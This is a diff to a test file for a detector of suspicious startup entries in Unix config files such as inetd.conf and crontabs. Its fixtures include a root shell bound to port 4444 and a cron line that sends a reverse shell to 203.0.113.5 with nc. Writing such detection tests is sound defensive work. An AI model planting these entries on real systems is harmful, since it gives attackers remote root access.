@@ -70,6 +70,7 @@ def test_a_line_of_inittab_only_looks_like_it(line: str) -> None:
     [
         ("etc/inetd.conf", "", "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n", "telnet-started"),
         ("etc/inetd.conf", "", "4444 stream tcp nowait root /bin/sh sh -i\n", "shell-on-port"),
+        ("etc/inetd.conf", "", "tftp dgram udp wait root /bin/tftpd tftpd\n", "service-on-port"),
         ("etc/xinetd.d/a", "", "service telnet\n{\n server = /usr/sbin/in.telnetd\n}\n", "telnet-started"),
         ("etc/crontabs/root", "", "* * * * * nc 203.0.113.5 443 -e /bin/sh\n", "shell-sent-out"),
         ("etc/cron.d/a", "", "@reboot root telnetd\n", "telnet-started"),
